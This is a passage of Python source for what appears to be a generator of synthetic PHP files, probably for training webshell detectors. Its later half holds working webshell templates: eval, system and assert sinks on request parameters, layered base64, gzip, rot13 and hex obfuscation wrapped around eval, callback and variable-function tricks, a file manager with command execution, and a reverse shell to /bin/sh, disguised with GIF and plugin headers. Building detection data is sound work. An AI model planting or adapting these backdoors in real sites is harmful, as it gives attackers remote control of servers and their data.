            'header' => "Content-Type: application/json\\r\\nX-Signature: " . hash_hmac('sha256', $body, $secret),
            'content' => $body,
            'timeout' => ⟨to⟩,
            'ignore_errors' => true,
        ],
    ]);
⟨slot⟩    $result = file_get_contents($url, false, $context);
    return $result !== false && str_contains($http_response_header[0] ?? '', ' 2');
}
""",
                n=c.name("send", "webhook"),
                to=r.choice((5, 10)),
                slot="    " + _SLOT + "\n",
            )
        )
    else:
        out.append(
            _t(
                """function ⟨n⟩(string $host = '⟨host⟩', int $port = ⟨port⟩, int $timeout = 5): bool
{
    $fp = @fsockopen($host, $port, $errno, $errstr, $timeout);
    if ($fp === false) {
        error_log(sprintf('SMTP check failed: %s (%d)', $errstr, $errno));
        return false;
    }
    stream_set_timeout($fp, $timeout);
    $greeting = fgets($fp, 512);
    fwrite($fp, "QUIT\\r\\n");
    fclose($fp);
⟨slot⟩    return is_string($greeting) && strncmp($greeting, '220', 3) === 0;
}
""",
                n=c.name("check", "mail", "server"),
                host=r.choice(("smtp.example.com", "mail.example.org", "mx.example.net")),
                port=r.choice((25, 587, 465)),
                slot="    " + _SLOT + "\n",
            )
        )
    if kind > 2 and size > 1:
        out.append("\n" + _helpers(c, r.randint(1, max(1, size // 2))))
    return "".join(out)


def _functional(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c)]
    snippets = []
    rows = c.var(c.noun() + "s")
    snippets.append(
        f"function {c.name('active', c.noun() + 's')}(array $items): array\n{{\n    return array_values(array_filter($items, fn(array $u): bool => ($u['status'] ?? '') === 'active'));\n}}\n"
    )
    snippets.append(
        f"{c.var('names')} = array_map(static function (array $row): string {{\n    return ucfirst(trim((string) $row['name']));\n}}, {rows});\n"
    )
    snippets.append(
        f"usort({rows}, fn(array $a, array $b): int => $a['{r.choice(('price', 'position', 'id', 'rating'))}'] <=> $b['{r.choice(('price', 'position', 'id'))}']);\n"
    )
    snippets.append(
        f"{c.var('total')} = array_reduce({rows}, fn(float $carry, array $line): float => $carry + $line['price'] * $line['quantity'], 0.0);\n"
    )
    snippets.append(
        _t(
            """register_shutdown_function(function () use (⟨log⟩): void {
    $error = error_get_last();
    if ($error !== null && $error['type'] === E_ERROR) {
        file_put_contents(⟨log⟩, json_encode($error) . PHP_EOL, FILE_APPEND);
    }
});
""",
            log=c.var("log", "file"),
        )
    )
    snippets.append(
        _t(
            """function ⟨n⟩(string $template, array $vars): string
{
    return preg_replace_callback('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', function (array $m) use ($vars): string {
        return htmlspecialchars((string) ($vars[$m[1]] ?? ''), ENT_QUOTES, 'UTF-8');
    }, $template);
}
""",
            n=c.name("interpolate") if r.chance(0.5) else c.name("render", "string"),
        )
    )
    snippets.append(
        "array_walk($settings, function (&$value, string $key): void {\n    $value = is_string($value) ? trim($value) : $value;\n});\n"
    )
    snippets.append(
        _t(
            """$allowed = ['strtoupper', 'strtolower', 'ucfirst', 'ucwords'];
$transform = $_GET['case'] ?? 'ucfirst';
if (in_array($transform, $allowed, true)) {
    ⟨t⟩ = $transform(⟨t⟩);
}
""",
            t=c.var("heading"),
        )
    )
    snippets.append(
        f"{c.var('grouped')} = [];\nforeach ({rows} as $row) {{\n    {c.var('grouped')}[$row['category'] ?? 'other'][] = $row;\n}}\nksort({c.var('grouped')});\n"
    )
    snippets.append(
        "$formatters = ['date' => fn($v) => date('d.m.Y', strtotime((string) $v)), 'money' => fn($v) => number_format((float) $v, 2)];\n$cell = call_user_func($formatters[$type] ?? 'strval', $value);\n"
    )
    snippets.append(
        f"{c.var('ids')} = array_unique(array_map('intval', explode(',', (string) ($_GET['ids'] ?? ''))));\n{c.var('ids')} = array_filter({c.var('ids')}, static fn(int $id): bool => $id > 0);\n"
    )
    if r.chance(0.15):  # legacy PHP 5 code still found in the wild
        snippets.append(
            "usort($list, create_function('$a, $b', 'return strcmp($a[\"name\"], $b[\"name\"]);'));\n"
        )
    if r.chance(0.06):
        snippets.append(
            "$title = preg_replace('/(^|_)([a-z])/e', 'strtoupper(\"\\\\2\")', $slug);\n"
        )
    chosen = r.sample(snippets, max(2, min(len(snippets), size + 1)))
    out.append(
        f"{rows} = {_rows_literal(c, ['id', 'name', 'status', 'price', 'quantity'], r.randint(2, 4))};\n"
    )
    out.append(
        "$settings = ['title' => ' Demo ', 'per_page' => 20];\n$type = 'money';\n$value = 12.5;\n"
    )
    out.append(c.var("heading") + " = 'monthly report';\n$list = [];\n$slug = 'user_profile';\n")
    out.append(f"{c.var('log', 'file')} = __DIR__ . '/errors.log';\n" + _SLOT + "\n")
    for s in chosen:
        out.append("\n" + c.maybe_comment() + s)
    if size > 3:
        out.append("\n" + _helpers(c, r.randint(1, size // 3)))
    return "".join(out)


def _plugin_loader(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c)]
    kind = r.randint(0, 2)
    if kind == 0:
        pages = r.sample(
            (
                "home",
                "about",
                "contact",
                "faq",
                "pricing",
                "team",
                "blog",
                "terms",
                "privacy",
                "jobs",
            ),
            r.randint(3, 8),
        )
        out.append(
            _t(
                """$pages = [⟨pages⟩];
$page = $_GET['page'] ?? 'home';
if (!in_array($page, $pages, true)) {
    $page = 'home';
}
⟨slot⟩
include __DIR__ . '/partials/header.php';
include __DIR__ . '/pages/' . $page . '.php';
include __DIR__ . '/partials/footer.php';
""",
                pages=", ".join(f"'{p}'" for p in pages),
                slot=_SLOT,
            )
        )
    elif kind == 1:
        out.append(
            _t(
                """final class PluginManager
{
    private array $plugins = [];

    public function loadAll(string $dir): void
    {
        foreach (glob($dir . '/*/plugin.php') ?: [] as $file) {
            $name = basename(dirname($file));
            if (!preg_match('/^[a-z0-9_-]+$/', $name)) {
                continue;
            }
⟨slot⟩            require_once $file;
            $class = '⟨ns⟩\\\\Plugins\\\\' . str_replace(' ', '', ucwords(str_replace(['-', '_'], ' ', $name))) . '\\\\Plugin';
            if (class_exists($class)) {
                $this->plugins[$name] = new $class();
            }
        }
    }

    public function dispatch(string $hook, array $args = []): void
    {
        foreach ($this->plugins as $plugin) {
            if (method_exists($plugin, $hook)) {
                call_user_func_array([$plugin, $hook], $args);
            }
        }
    }
}
""",
                ns=r.choice(NAMESPACES),
                slot="            " + _SLOT + "\n",
            )
        )
    else:
        use_eval = r.chance(0.35)
        run = (
            "        extract($vars, EXTR_SKIP);\n        eval('?>' . $compiled);\n"
            if use_eval
            else "        $cache = $this->cacheDir . '/' . md5($name) . '.php';\n        file_put_contents($cache, $compiled, LOCK_EX);\n        extract($vars, EXTR_SKIP);\n        include $cache;\n"
        )
        out.append(
            _t(
                """final class ⟨cls⟩
{
    public function __construct(private string $dir, private string $cacheDir)
    {
    }

    public function compile(string $source): string
    {
        $source = preg_replace('/\\{\\{\\s*(\\$\\w+)\\s*\\}\\}/', '<?php echo htmlspecialchars((string) $1, ENT_QUOTES); ?>', $source);
        $source = preg_replace('/@foreach\\s*\\((.+?)\\)/', '<?php foreach ($1): ?>', $source);
        $source = str_replace('@endforeach', '<?php endforeach; ?>', $source);
        $source = preg_replace('/@if\\s*\\((.+?)\\)/', '<?php if ($1): ?>', $source);
        return str_replace('@endif', '<?php endif; ?>', $source);
    }

    public function render(string $name, array $vars = []): string
    {
        if (!preg_match('/^[a-z0-9_.\\/-]+$/', $name) || str_contains($name, '..')) {
            throw new InvalidArgumentException('Bad template name');
        }
        $compiled = $this->compile((string) file_get_contents($this->dir . '/' . $name . '.tpl'));
⟨slot⟩        ob_start();
⟨run⟩        return (string) ob_get_clean();
    }
}
""",
                cls=r.choice(("View", "Template", "TemplateEngine", "Renderer")),
                run=run,
                slot="        " + _SLOT + "\n",
            )
        )
    if size > 2:
        out.append("\n" + _helpers(c, r.randint(1, size // 2)))
    return "".join(out)


def _cache(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n\ndeclare(strict_types=1);\n\n", _file_header(c)]
    compress = r.chance(0.4)
    enc = "gzcompress(serialize($payload), 6)" if compress else "serialize($payload)"
    dec = "@gzuncompress($raw)" if compress else "$raw"
    out.append(
        _t(
            """final class ⟨cls⟩
{
    public function __construct(private string $dir, private int $ttl = ⟨ttl⟩)
    {
        if (!is_dir($dir)) {
            mkdir($dir, 0775, true);
        }
    }

    private function path(string $key): string
    {
        return $this->dir . '/' . md5($key) . '.cache';
    }

    public function get(string $key, mixed $default = null): mixed
    {
        $file = $this->path($key);
        if (!is_file($file)) {
            return $default;
        }
        $raw = (string) file_get_contents($file);
        $data = unserialize((string) ⟨dec⟩, ['allowed_classes' => false]);
        if (!is_array($data) || $data['expires'] < time()) {
            @unlink($file);
            return $default;
        }
        return $data['value'];
    }

    public function set(string $key, mixed $value, ?int $ttl = null): bool
    {
        $payload = ['expires' => time() + ($ttl ?? $this->ttl), 'value' => $value];
⟨slot⟩        return file_put_contents($this->path($key), ⟨enc⟩, LOCK_EX) !== false;
    }

    public function remember(string $key, callable $compute): mixed
    {
        $value = $this->get($key);
        if ($value === null) {
            $value = $compute();
            $this->set($key, $value);
        }
        return $value;
    }

    public function clear(): void
    {
        foreach (glob($this->dir . '/*.cache') ?: [] as $file) {
            unlink($file);
        }
    }
}
""",
            cls=r.choice(("FileCache", "Cache", "DiskCache", "ResponseCache")),
            ttl=r.choice((60, 300, 3600, 86400)),
            dec=dec,
            enc=enc,
            slot="        " + _SLOT + "\n",
        )
    )
    if r.chance(0.4):
        out.append(
            """
function cart_cookie_encode(array $cart): string
{
    return base64_encode(json_encode($cart, JSON_THROW_ON_ERROR));
}

function cart_cookie_decode(string $cookie): array
{
    $data = json_decode((string) base64_decode($cookie, true), true);
    return is_array($data) ? $data : [];
}
"""
        )
    if size > 2:
        out.append("\n" + _helpers(c, r.randint(1, size // 2)))
    return "".join(out)


def _tiny(c: _Ctx, family: str) -> str:
    """The small files every real code base has (loaders, stubs, interfaces, redirects)."""
    r = c.r
    noun = c.noun()
    if family == "page":
        return _t(
            """<?php include __DIR__ . '/header.php'; ?>
<h1>⟨title⟩</h1>
<p>⟨text⟩</p>
<?php include __DIR__ . '/footer.php'; ?>
""",
            title=c.title(),
            text=c.sentence(),
        )
    if family == "class":
        cls = _pascal([noun])
        return _t(
            """<?php

namespace ⟨ns⟩\\Contracts;

interface ⟨cls⟩Repository
{
    public function find(int $id): ?array;

    public function save(array $⟨noun⟩): int;
}
""",
            ns=r.choice(NAMESPACES),
            cls=cls,
            noun=noun,
        )
    if family == "router":
        if r.chance(0.5):
            return (
                "<?php\nheader('Location: /"
                + r.choice(("en/", "home", "app/", "login.php"))
                + "', true, 301);\nexit;\n"
            )
        return (
            "<?php\n\ndefine('APP_START', microtime(true));\n\n"
            "require __DIR__ . '/../vendor/autoload.php';\n\n"
            "$app = require_once __DIR__ . '/../bootstrap/app.php';\n$app->run();\n"
        )
    if family == "config":
        if r.chance(0.5):
            return "<?php\n// Silence is golden.\n"
        return f"<?php\n\nreturn [\n    'driver' => '{r.choice(('file', 'redis', 'database'))}',\n    'ttl' => {r.choice((60, 600, 3600))},\n];\n"
    if family == "plugin_loader":
        return """<?php

spl_autoload_register(function (string $class): void {
    $file = __DIR__ . '/src/' . str_replace('\\\\', '/', $class) . '.php';
    if (is_file($file)) {
        require $file;
    }
});
"""
    return "<?php\n\n$ids = array_filter(array_map('intval', (array) ($_GET['ids'] ?? [])));\necho json_encode(array_values($ids));\n"


_TINY_FAMILIES = ("page", "class", "router", "config", "plugin_loader", "functional")
_TINY_P = 0.12


_BENIGN: dict[str, Callable[[_Ctx, int], str]] = {
    "page": _page,
    "class": _class,
    "crud": _crud,
    "router": _router,
    "config": _config,
    "image_data": _image_data,
    "admin_script": _admin_script,
    "api_client": _api_client,
    "functional": _functional,
    "plugin_loader": _plugin_loader,
    "cache": _cache,
}


# --------------------------------------------------------------------------------------------
# Encoding layers (real encodings; the PHP decoders are their exact inverses)


def _deflate_raw(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


# name -> (encoder on bytes, PHP decoder calls outermost first)
LAYERS: dict[str, tuple[Callable[[bytes], bytes], tuple[str, ...]]] = {
    "base64": (base64.b64encode, ("base64_decode",)),
    "gzdeflate": (lambda b: base64.b64encode(_deflate_raw(b)), ("gzinflate", "base64_decode")),
    "gzcompress": (
        lambda b: base64.b64encode(zlib.compress(b, 9)),
        ("gzuncompress", "base64_decode"),
    ),
    "rot13": (
        lambda b: codecs.encode(b.decode("latin-1"), "rot13").encode("latin-1"),
        ("str_rot13",),
    ),
    "strrev": (lambda b: b[::-1], ("strrev",)),
    "hex": (lambda b: b.hex().encode("ascii"), ("hex2bin",)),
}


def _repr_encoded(c: _Ctx, enc: str, *, allow_chr: bool = True) -> str:
    """A PHP expression whose value is ``enc``: a literal, chunks, ``\\x`` escapes or chr()s."""
    r = c.r
    u = r.random()
    if allow_chr and len(enc) <= 300 and u < 0.15:
        return ".".join(f"chr({ord(ch)})" for ch in enc)
    if len(enc) <= 3000 and u < 0.3:
        return '"' + "".join(f"\\x{ord(ch):02x}" for ch in enc) + '"'
    if len(enc) > 80 and u < 0.5:
        k = r.randint(2, 6)
        step = -(-len(enc) // k)
        return ".".join(php_single_quoted(enc[i : i + step]) for i in range(0, len(enc), step))
    return php_single_quoted(enc)


def encode_layers(payload: str, chain: Sequence[str]) -> tuple[str, list[str]]:
    """Encodes ``payload`` for the layer names ``chain`` (outermost decoder first).

    Returns ``(encoded_text, decoders)``: applying the PHP functions ``decoders`` (outermost
    first, e.g. ``["gzinflate", "base64_decode"]``) to ``encoded_text`` gives ``payload``
    back. The encoded text is ASCII.
    """
    unknown = [name for name in chain if name not in LAYERS]
    if unknown or not chain:
        raise ValueError(
            f"chain must be non-empty layer names from {sorted(LAYERS)}, got {list(chain)!r}"
        )
    data = payload.encode("utf-8")
    for name in chain:  # the outermost decoder undoes the first encoding
        data = LAYERS[name][0](data)
    text = data.decode("latin-1")
    if any(ord(ch) > 126 for ch in text):
        raise ValueError("the last encoding must give ASCII (non-ASCII payload under rot13/strrev)")
    return text, [call for name in chain for call in LAYERS[name][1]]


def _case(c: _Ctx, name: str) -> str:
    """PHP function names are case-insensitive; WebShells sometimes exploit that."""
    if c.r.chance(0.08):
        return "".join(ch.upper() if c.r.chance(0.5) else ch for ch in name)
    return name


_SELF_INVERSE = ("rot13", "strrev")


def _draw_chain(r: _Rand, k: int) -> list[str]:
    """``k`` layer names; rot13 and strrev at most once each (twice would cancel out)."""
    chain: list[str] = []
    for _ in range(k):
        chain.append(r.choice([n for n in LAYERS if n not in _SELF_INVERSE or n not in chain]))
    return chain


def _layered_eval(c: _Ctx, payload: str, layers: int, *, allow_chr: bool = True) -> str:
    """PHP statements that decode ``payload`` through ``layers`` real layers and eval it.

    Layers are grouped into one to ``layers`` nesting levels; each level is one
    ``eval(D1(D2(..('...'))))`` statement whose decoded text is the next level.
    """
    r = c.r
    chain = _draw_chain(r, layers)
    levels: list[list[str]] = [[chain[0]]]
    for name in chain[1:]:
        if r.chance(0.35):
            levels.append([name])
        else:
            levels[-1].append(name)
    code = payload
    for level in levels:
        # A text-only layer (rot13, strrev) cannot be the last encoding of non-ASCII input;
        # our payloads are ASCII, so every chain is valid.
        enc, decoders = encode_layers(code, level)
        calls = "".join(_case(c, f) + "(" for f in decoders)
        closing = ")" * len(decoders)
        sink = r.choice(("eval", "eval", "eval", "@eval", "assert")) if layers < 4 else "eval"
        expr = _repr_encoded(c, enc, allow_chr=allow_chr)
        if r.chance(0.4):
            v = (
                "$"
                + r.choice(("_", "__", "O0", "x", "data", "code", "s", "z", "_0x"))
                + r.token(r.randint(0, 4), "abcdefghijklmnopqrstuvwxyz")
            )
            code = f"{v} = {expr};\n{sink}({calls}{v}{closing});"
        else:
            code = f"{sink}({calls}{expr}{closing});"
    return code


# --------------------------------------------------------------------------------------------
# WebShell families (inert: commands come from the request or are fixed probes; hosts are
# TEST-NET documentation addresses)

_INPUTS = ("$_POST", "$_GET", "$_REQUEST")


def _inp(c: _Ctx, k: str | None = None, sources: Sequence[str] = _INPUTS) -> str:
    return f"{c.r.choice(sources)}['{k or c.key()}']"


def _ws_prefix(c: _Ctx) -> str:
    r = c.r
    u = r.random()
    if u < 0.08:
        return "GIF89a;\n<?php\n"
    if u < 0.2:
        return f"<?php\n/*\nPlugin Name: {c.title()}\nDescription: {c.sentence(3, 8)}\nVersion: {r.randint(1, 4)}.{r.randint(0, 9)}\n*/\n"
    if u < 0.3:
        return "<?php\n// Silence is golden.\n"
    if u < 0.4:
        return "<?php\nerror_reporting(0);\n@set_time_limit(0);\n@ini_set('display_errors', '0');\n"
    return "<?php\n"


def _ws_wrap(c: _Ctx, body: str, *, pad: float = 0.4) -> str:
    """A WebShell body in a file: optional prefix, benign padding, closing tag."""
    r = c.r
    out = [_ws_prefix(c)]
    if r.chance(pad):
        out.append(_helpers(c, r.randint(1, 4)) + "\n")
    out.append(body.rstrip("\n") + "\n")
    if r.chance(pad * 0.5):
        out.append("\n" + _helpers(c, r.randint(1, 3)))
    if r.chance(0.3):
        out.append("?>\n")
    return "".join(out)


def _inner_payload(c: _Ctx) -> str:
    """The sink on user input that obfuscated and hidden WebShells wrap."""
    r = c.r
    k = c.key()
    src = r.choice(_INPUTS)
    kind = r.randint(0, 7)
    if kind == 0:
        return f"@eval({src}['{k}']);"
    if kind == 1:
        return f"if (isset({src}['{k}'])) {{ echo '<pre>'; system({src}['{k}']); echo '</pre>'; }}"
    if kind == 2:
        return f"echo shell_exec({src}['{k}']);"
    if kind == 3:
        return f"@assert({src}['{k}']);"
    if kind == 4:
        return f"passthru($_COOKIE['{k}']);"
    if kind == 5:
        return f"$o = array(); exec({src}['{k}'], $o); echo implode(\"\\n\", $o);"
    if kind == 6:
        return f"@eval(stripslashes({src}['{k}']));"
    return f"eval(base64_decode({src}['{k}']));"


def _one_liner(c: _Ctx, size: int) -> str:
    r = c.r
    k = c.key()
    src = r.choice(_INPUTS)
    at = "@" if r.chance(0.5) else ""
    forms = (
        f"<?php {at}eval({src}['{k}']);?>",
        f"<?php {at}assert({src}['{k}']); ?>",
        f"<?php echo `{{{src}['{k}']}}`; ?>",
        f"<?php $c = {src}['{k}']; echo '<pre>' . `$c` . '</pre>'; ?>",
        f"<?php system({src}['{k}']); ?>",
        f"<?php passthru({src}['{k}']);",
        f"<?php echo shell_exec({src}['{k}']); ?>",
        f"<?php if (isset({src}['{k}'])) {{ echo '<pre>'; $c = ({src}['{k}']); system($c); echo '</pre>'; die; }} ?>",
        f"<?php $o = array(); exec({src}['{k}'], $o); print_r($o); ?>",
        f"<?php {at}eval(${{'_' . 'POST'}}['{k}']); ?>",
        f"<?php $p = popen({src}['{k}'], 'r'); while (!feof($p)) {{ echo fread($p, 1024); }} pclose($p); ?>",
        f"<?php @eval(\"?>\" . {src}['{k}']); ?>",
    )
    line = r.choice(forms)
    if r.chance(0.15):
        line = line.replace("(", " ( ").replace(")", " ) ")
    prefix = "GIF89a;\n" if r.chance(0.1) else ""
    if r.chance(0.25):  # tucked after some HTML, as in a defaced page
        prefix += f"<html><head><title>{c.title()}</title></head><body><p>{c.sentence()}</p></body></html>\n"
    return prefix + line + "\n"


def _obfuscated(c: _Ctx, size: int) -> str:
    r = c.r
    layers = r.choice((1, 1, 2, 2, 3, 3, 4))
    if r.chance(0.15):
        payload = _file_manager_body(c, max(2, size), cmd=True)
    else:
        payload = _inner_payload(c)
    return _ws_wrap(c, _layered_eval(c, payload, layers), pad=0.35)


def _variable_function(c: _Ctx, size: int) -> str:
    r = c.r
    sink = r.choice(("system", "passthru", "shell_exec", "exec", "assert"))
    f = (
        "$"
        + r.choice(("f", "fn", "a", "_", "func", "x", "b", "k"))
        + r.token(r.randint(0, 3), "abcdefghijklmnopqrstuvwxyz")
    )
    inp = _inp(c)
    kind = r.randint(0, 7)
    if kind == 0:
        cut = r.randint(1, len(sink) - 1)
        build = f"{f} = '{sink[:cut]}' . '{sink[cut:]}';"
    elif kind == 1:
        build = f"{f} = strrev('{sink[::-1]}');"
    elif kind == 2:
        build = f"{f} = " + ".".join(f"chr({ord(ch)})" for ch in sink) + ";"
    elif kind == 3:
        parts, i = [], 0
        while i < len(sink):
            j = min(len(sink), i + r.randint(1, 3))
            parts.append(sink[i:j])
            i = j
        build = f"{f} = implode('', array(" + ", ".join(f"'{p}'" for p in parts) + "));"
    elif kind == 4:
        build = f"{f} = base64_decode('{base64.b64encode(sink.encode()).decode()}');"
    elif kind == 5:
        sep = r.choice(("x", "#", "_", "q"))
        build = f"{f} = str_replace('{sep}', '', '{sep.join(sink)}');"
    elif kind == 6:
        build = f"{f} = strtolower('{sink.upper()}');"
    else:  # the function name itself comes from the request
        fk, ak = c.key(), c.key()
        src = r.choice(_INPUTS)
        return _ws_wrap(c, f"{src}['{fk}']({src}['{ak}']);", pad=0.3)
    lines = [build]
    if r.chance(0.3):  # the variable itself reached through a variable variable
        alias = "v" + r.token(r.randint(1, 4), "abcdefghijklmnopqrstuvwxyz")
        if alias == f[1:]:
            alias += "_"
        lines.append(f"${alias} = '{f[1:]}';")
        call = f"$${alias}"
    else:
        call = f
    arg = inp
    if r.chance(0.3):
        arg = f"${{'_' . '{r.choice(('POST', 'GET', 'REQUEST'))}'}}['{c.key()}']"
    if sink == "exec":
        lines.append(f"{call}({arg}, $out);\necho implode(PHP_EOL, $out);")
    elif sink == "shell_exec":
        lines.append(f"echo {call}({arg});")
    else:
        lines.append(f"{'@' if r.chance(0.4) else ''}{call}({arg});")
    return _ws_wrap(c, "\n".join(lines), pad=0.4)


def _callback(c: _Ctx, size: int) -> str:
    r = c.r
    inp = _inp(c)
    fn = r.choice(("'assert'", "'system'", "'passthru'", "'ass' . 'ert'", "'sys' . 'tem'", _inp(c)))
    forms = (
        f"array_map({fn}, array({inp}));",
        f"$arr = array({inp});\narray_filter($arr, {fn});",
        f"register_shutdown_function({fn}, {inp});",
        f"preg_replace_callback('/.+/', function ($m) {{ return @eval($m[0]); }}, {inp});",
        f"call_user_func({fn}, {inp});",
        f"call_user_func_array({fn}, array({inp}));",
        f"$a = array({inp}, 1);\nusort($a, {fn});",
        f"$list = array({inp});\narray_walk($list, function ($v) {{ echo shell_exec($v); }});",
        f"ob_start({fn});\necho {inp};\nob_end_flush();",
        f"$it = new ArrayIterator(array({inp}));\niterator_apply($it, {fn}, array($it->current()));",
        f"array_reduce(array({inp}), function ($c, $v) {{ return @eval($v); }});",
        f"$e = {inp};\n$arr = array('x' => 1);\nuasort($arr, function ($a, $b) use ($e) {{ @eval($e); return 0; }});",
    )
    return _ws_wrap(c, r.choice(forms), pad=0.45)


def _preg_replace_e(c: _Ctx, size: int) -> str:
    r = c.r
    inp = _inp(c)
    forms = (
        f"@preg_replace('/.*/e', {inp}, '');",
        f"preg_replace(\"/{r.token(r.randint(3, 8), 'abcdefghijklmnopqrstuvwxyz')}/e\", {inp}, '{r.token(r.randint(3, 8), 'abcdefghijklmnopqrstuvwxyz')}');",
        f"$re = '/(.*)/' . 'e';\necho preg_replace($re, '\\\\1', {inp});",
        f"@preg_replace('/^/e', base64_decode({inp}), 'x');",
        f"mb_ereg_replace('.*', {inp}, '', 'e');",
        f"echo preg_replace('/(.+)/ie', 'strtolower(\"\\\\1\")', {inp});",
    )
    return _ws_wrap(c, r.choice(forms), pad=0.45)


def _create_function(c: _Ctx, size: int) -> str:
    r = c.r
    inp = _inp(c)
    f = "$" + r.choice(("f", "fn", "lambda", "x", "func"))
    forms = (
        f"{f} = create_function('', {inp});\n{f}();",
        f"{f} = @create_function('', base64_decode({inp}));\n{f}();",
        f"{f} = create_function('$a', {inp} . ';');\n{f}(1);",
        f"$n = 'create_' . 'function';\n{f} = $n('', {inp});\n{f}();",
        f"call_user_func(create_function('', {inp}));",
    )
    return _ws_wrap(c, r.choice(forms), pad=0.45)


def _file_manager_body(c: _Ctx, size: int, *, cmd: bool) -> str:
    """An all-PHP file manager (HTML through echo): list, upload, edit, delete, rename."""
    r = c.r
    d = "$" + r.choice(("dir", "d", "path", "cwd", "p"))
    dk = r.choice(("d", "dir", "path", "p"))
    color = r.choice(("#0f0", "#df5", "#5af", "#f55", "#ccc"))
    out = [
        f"{d} = isset($_GET['{dk}']) ? $_GET['{dk}'] : getcwd();",
        f"{d} = str_replace('\\\\', '/', {d});",
        f"echo '<html><head><title>{c.title()}</title><style>body{{background:#111;color:{color};font:12px monospace}}a{{color:{color}}}</style></head><body>';",
        f"echo '<b>' . htmlspecialchars(php_uname()) . '</b><br>Dir: ' . htmlspecialchars({d}) . '<hr>';",
        "if (isset($_FILES['up'])) {",
        f"    if (move_uploaded_file($_FILES['up']['tmp_name'], {d} . '/' . basename($_FILES['up']['name']))) {{",
        "        echo '<p>Uploaded.</p>';",
        "    } else {",
        "        echo '<p>Upload failed.</p>';",
        "    }",
        "}",
        "if (isset($_GET['del'])) {",
        "    $t = $_GET['del'];",
        "    is_dir($t) ? @rmdir($t) : @unlink($t);",
        "}",
        "if (isset($_POST['save'], $_POST['content'])) {",
        "    file_put_contents($_POST['save'], $_POST['content']);",
        "}",
        "if (isset($_POST['from'], $_POST['to'])) {",
        "    @rename($_POST['from'], $_POST['to']);",
        "}",
        "if (isset($_GET['edit'])) {",
        "    $f = $_GET['edit'];",
        '    echo \'<form method="post"><input type="hidden" name="save" value="\' . htmlspecialchars($f) . \'">\';',
        '    echo \'<textarea name="content" cols="120" rows="30">\' . htmlspecialchars((string) @file_get_contents($f)) . \'</textarea><br><input type="submit" value="Save"></form>\';',
        "}",
        "echo '<table><tr><th>Name</th><th>Size</th><th>Perms</th><th>Modified</th><th></th></tr>';",
        f"foreach (scandir({d}) as $item) {{",
        f"    $full = {d} . '/' . $item;",
        "    $perms = substr(sprintf('%o', fileperms($full)), -4);",
        "    echo '<tr><td>';",
        "    if (is_dir($full)) {",
        f"        echo '<a href=\"?{dk}=' . urlencode(realpath($full)) . '\">[' . htmlspecialchars($item) . ']</a>';",
        "    } else {",
        "        echo '<a href=\"?edit=' . urlencode($full) . '\">' . htmlspecialchars($item) . '</a>';",
        "    }",
        "    echo '</td><td>' . (is_file($full) ? filesize($full) : '-') . '</td><td>' . $perms . '</td>';",
        "    echo '<td>' . date('Y-m-d H:i', filemtime($full)) . '</td><td><a href=\"?del=' . urlencode($full) . '\">del</a></td></tr>';",
        "}",
        "echo '</table><hr>';",
        f'echo \'<form method="post" enctype="multipart/form-data" action="?{dk}=\' . urlencode({d}) . \'"><input type="file" name="up"><input type="submit" value="Upload"></form>\';',
        'echo \'<form method="post">Rename <input name="from"> to <input name="to"><input type="submit" value="Go"></form>\';',
    ]
    if r.chance(0.5) or size > 4:
        out += [
            "if (isset($_POST['mk'])) {",
            f"    @mkdir({d} . '/' . $_POST['mk']);",
            "}",
            'echo \'<form method="post">New dir <input name="mk"><input type="submit"></form>\';',
            "if (isset($_GET['dl']) && is_file($_GET['dl'])) {",
            "    header('Content-Type: application/octet-stream');",
            "    header('Content-Disposition: attachment; filename=\"' . basename($_GET['dl']) . '\"');",
            "    readfile($_GET['dl']);",
            "    exit;",
            "}",
        ]
    if cmd:
        runner = r.choice(("system", "passthru", "shell_exec", "exec", "popen"))
        out.append("if (!empty($_POST['cmd'])) {")
        out.append(f"    chdir({d});")
        out.append("    echo '<pre>';")
        if runner == "shell_exec":
            out.append("    echo htmlspecialchars((string) shell_exec($_POST['cmd'] . ' 2>&1'));")
        elif runner == "exec":
            out.append("    exec($_POST['cmd'] . ' 2>&1', $lines);")
            out.append('    echo htmlspecialchars(implode("\\n", $lines));')
        elif runner == "popen":
            out.append("    $h = popen($_POST['cmd'] . ' 2>&1', 'r');")
            out.append("    while (!feof($h)) {")
            out.append("        echo htmlspecialchars(fread($h, 2048));")
            out.append("    }")
            out.append("    pclose($h);")
        else:
            out.append(f"    {runner}($_POST['cmd'] . ' 2>&1');")
        out.append("    echo '</pre>';")
        out.append("}")
        out.append(
            'echo \'<form method="post">$ <input name="cmd" size="80"><input type="submit" value=">>"></form>\';'
        )
    out.append("echo '</body></html>';")
    return "\n".join(out) + "\n"


def _file_manager(c: _Ctx, size: int) -> str:
    body = _file_manager_body(c, size, cmd=c.r.chance(0.5))
    if c.r.chance(0.3):
        body = "session_start();\n" + body
    return _ws_wrap(c, body, pad=0.3)


def _testnet(c: _Ctx) -> str:
    return f"{c.r.choice(('203.0.113', '198.51.100'))}.{c.r.randint(1, 254)}"


def _reverse_shell(c: _Ctx, size: int) -> str:
    r = c.r
    host = _testnet(c)
    port = r.choice((443, 1234, 4444, 5555, 8080, 9001, 31337))
    host_expr = f"'{host}'"  # always a documentation address, never from the request
    kind = r.randint(0, 3)
    if kind == 0:
        body = _t(
            """@set_time_limit(0);
$ip = ⟨host⟩;
$port = ⟨port⟩;
$sock = @fsockopen($ip, $port, $errno, $errstr, 30);
if (!$sock) {
    exit("$errstr ($errno)");
}
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$proc = proc_open('/bin/sh -i', $spec, $pipes);
if (!is_resource($proc)) {
    exit('no shell');
}
stream_set_blocking($pipes[0], false);
stream_set_blocking($pipes[1], false);
stream_set_blocking($pipes[2], false);
stream_set_blocking($sock, false);
while (!feof($sock) && !feof($pipes[1])) {
    $read = array($sock, $pipes[1], $pipes[2]);
    $w = null;
    $e = null;
    if (stream_select($read, $w, $e, null) === false) {
        break;
    }
    if (in_array($sock, $read)) {
        fwrite($pipes[0], fread($sock, 1400));
    }
    if (in_array($pipes[1], $read)) {
        fwrite($sock, fread($pipes[1], 1400));
    }
    if (in_array($pipes[2], $read)) {
        fwrite($sock, fread($pipes[2], 1400));
    }
}
fclose($sock);
proc_close($proc);""",
            host=host_expr,
            port=port,
